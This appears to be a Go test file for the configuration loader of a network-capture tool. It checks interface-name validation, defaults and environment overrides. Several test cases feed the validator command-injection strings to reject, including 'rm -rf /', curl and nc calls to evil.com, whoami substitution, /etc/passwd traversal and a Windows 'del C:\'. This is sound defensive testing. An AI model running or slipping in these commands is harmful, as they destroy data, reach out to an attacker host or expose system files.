package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateInterfaceName(t *testing.T) {
	tests := []struct {
		name      string
		input     string
		wantError bool
		errorMsg  string
	}{
		// Valid interface names
		{"valid basic interface", "eth0", false, ""},
		{"valid wireless interface", "wlan0", false, ""},
		{"valid interface with dash", "en0-1", false, ""},
		{"valid interface with underscore", "eth_0", false, ""},
		{"valid interface with dot", "eth0.100", false, ""},
		{"valid complex interface", "veth123_test-1.vlan", false, ""},

		// Invalid interface names - security risks
		{"empty string", "", true, "interface name cannot be empty"},
		{"command injection semicolon", "eth0; rm -rf /", true, "interface name contains invalid characters"},
		{"command injection ampersand", "eth0 && curl evil.com", true, "interface name contains invalid characters"},
		{"command injection pipe", "eth0|nc evil.com 1234", true, "interface name contains invalid characters"},
		{"command injection backtick", "eth0`whoami`", true, "interface name contains invalid characters"},
		{"command injection dollar", "eth0$(whoami)", true, "interface name contains invalid characters"},
		{"path traversal", "../../../etc/passwd", true, "interface name contains invalid characters"},
		{"forward slash", "eth0/test", true, "interface name contains invalid characters"},
		{"backslash", "eth0\\test", true, "interface name contains invalid characters"},
		{"parentheses", "eth0(test)", true, "interface name contains invalid characters"},
		{"braces", "eth0{test}", true, "interface name contains invalid characters"},
		{"brackets", "eth0[test]", true, "interface name contains invalid characters"},
		{"angle brackets", "eth0<test>", true, "interface name contains invalid characters"},
		{"quotes", "eth0\"test", true, "interface name contains invalid characters"},
		{"single quotes", "eth0'test", true, "interface name contains invalid characters"},
		{"space", "eth0 test", true, "interface name contains invalid characters"},
		{"tab", "eth0\ttest", true, "interface name contains invalid characters"},
		{"newline", "eth0\ntest", true, "interface name contains invalid characters"},
		{"carriage return", "eth0\rtest", true, "interface name contains invalid characters"},

		// Length validation
		{"too long", strings.Repeat("a", 256), true, "interface name too long: 256 characters"},

		// Invalid characters
		{"invalid character @", "eth0@test", true, "interface name contains invalid characters"},
		{"invalid character #", "eth0#test", true, "interface name contains invalid characters"},
		{"invalid character %", "eth0%test", true, "interface name contains invalid characters"},
		{"invalid character ^", "eth0^test", true, "interface name contains invalid characters"},
		{"invalid character *", "eth0*test", true, "interface name contains invalid characters"},
		{"invalid character +", "eth0+test", true, "interface name contains invalid characters"},
		{"invalid character =", "eth0=test", true, "interface name contains invalid characters"},
		{"invalid character ?", "eth0?test", true, "interface name contains invalid characters"},
	}

	unix := interfaceNamePatternFor("linux")
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateInterfaceName(tt.input, unix)
			if tt.wantError {
				if err == nil {
					t.Errorf("ValidateInterfaceName(%q) expected error but got nil", tt.input)
				} else if tt.errorMsg != "" && !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("ValidateInterfaceName(%q) error = %v, expected to contain %q", tt.input, err, tt.errorMsg)
				}
			} else {
				if err != nil {
					t.Errorf("ValidateInterfaceName(%q) unexpected error = %v", tt.input, err)
				}
			}
		})
	}
}

func TestConfig_ValidateAndSetDefaults(t *testing.T) {
	cfg := &Config{}
	cfg.Capture.Interface = "  eth0 "
	cfg.Templates.Backend = " SQLite"
	cfg.ValidateAndSetDefaults()

	if cfg.Logging.Level != "info" {
		t.Errorf("Expected default log level to be 'info', got %q", cfg.Logging.Level)
	}
	if cfg.Capture.DurationSeconds != 10 {
		t.Errorf("Expected default duration to be 10, got %d", cfg.Capture.DurationSeconds)
	}
	if cfg.Capture.Interface != "eth0" {
		t.Errorf("Expected interface to be trimmed, got %q", cfg.Capture.Interface)
	}
	if cfg.Templates.Backend != TemplateBackendSQLite {
		t.Errorf("Expected backend to be normalized, got %q", cfg.Templates.Backend)
	}
}

func writeConfig(t *testing.T, body string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "config.json")
	require.NoError(t, os.WriteFile(path, []byte(body), 0644))
	return path
}

func TestLoadConfig(t *testing.T) {
	path := writeConfig(t, `{
		"logging": {"level": "debug", "file": "logs/console.log", "max_size_mb": 5},
		"capture": {"interface": "eth0", "duration_seconds": 30, "promiscuous": false},
		"templates": {"backend": "sqlite", "path": "/tmp/templates.db"},
		"metrics": {"listen": "127.0.0.1:9102"}
	}`)

	cfg, err := LoadConfig(path)
	require.NoError(t, err)
	assert.Equal(t, path, cfg.File)
	assert.Equal(t, "debug", cfg.Logging.Level)
	assert.Equal(t, "logs/console.log", cfg.Logging.File)
	assert.Equal(t, 5, cfg.Logging.MaxSizeMB)
	assert.Equal(t, 7, cfg.Logging.MaxAgeDays)
	assert.Equal(t, "eth0", cfg.Capture.Interface)
	assert.Equal(t, 30, cfg.Capture.DurationSeconds)
	assert.Equal(t, 1600, cfg.Capture.SnapLen)
	assert.False(t, cfg.Capture.Promiscuous)
	assert.Equal(t, TemplateBackendSQLite, cfg.Templates.Backend)
	assert.Equal(t, "/tmp/templates.db", cfg.Templates.Path)
	assert.Equal(t, "127.0.0.1:9102", cfg.Metrics.Listen)
}

func TestLoadConfig_EnvOverrides(t *testing.T) {
	path := writeConfig(t, `{"logging": {"level": "info"}}`)
	t.Setenv("CAPTURE_LOGGING_LEVEL", "warn")
	t.Setenv("CAPTURE_CAPTURE_INTERFACE", "wlan0")
	t.Setenv("CAPTURE_METRICS_LISTEN", ":9102")

	cfg, err := LoadConfig(path)
	require.NoError(t, err)
	assert.Equal(t, "warn", cfg.Logging.Level)
	assert.Equal(t, "wlan0", cfg.Capture.Interface)
	assert.Equal(t, ":9102", cfg.Metrics.Listen)
	assert.True(t, cfg.Capture.Promiscuous)
}

func TestLoadConfig_Errors(t *testing.T) {
	tests := []struct {
		name     string
		body     string
		contains string
	}{
		{"malformed json", `{"logging": `, "failed to read config file"},
		{"bad level", `{"logging": {"level": "loud"}}`, "invalid log level"},
		{"bad backend", `{"templates": {"backend": "redis"}}`, "unknown template backend"},
		{"bad interface", `{"capture": {"interface": "eth0; rm -rf /"}}`, "invalid interface"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := LoadConfig(writeConfig(t, tt.body))
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.contains)
		})
	}

	_, err := LoadConfig(filepath.Join(t.TempDir(), "missing.json"))
	assert.Error(t, err)
}

func TestLoadConfig_NoFileUsesDefaults(t *testing.T) {
	t.Chdir(t.TempDir())

	cfg, err := LoadConfig("")
	require.NoError(t, err)
	assert.Empty(t, cfg.File)
	assert.Equal(t, "info", cfg.Logging.Level)
	assert.Equal(t, TemplateBackendJSON, cfg.Templates.Backend)
	assert.Equal(t, 10, cfg.Capture.DurationSeconds)
}
func TestValidateInterfaceName_Windows(t *testing.T) {
	windows := interfaceNamePatternFor("windows")
	tests := []struct {
		input     string
		wantError bool
	}{
		{`\Device\NPF_{4D36E972-E325-11CE-BFC1-08002BE10318}`, false},
		{`\Device\NPF_Loopback`, false},
		{"{4D36E972-E325-11CE-BFC1-08002BE10318}", false},
		{"Wi-Fi", false},
		{`\Device\NPF_{x}; del C:\`, true},
		{"Ethernet 2", true},
		{`\Device\NPF_{x}|calc`, true},
	}

	for _, tt := range tests {
		err := validateInterfaceName(tt.input, windows)
		if tt.wantError {
			assert.Error(t, err, tt.input)
		} else {
			assert.NoError(t, err, tt.input)
		}
	}

	assert.Error(t, validateInterfaceName(`\Device\NPF_{x}`, interfaceNamePatternFor("linux")))
}
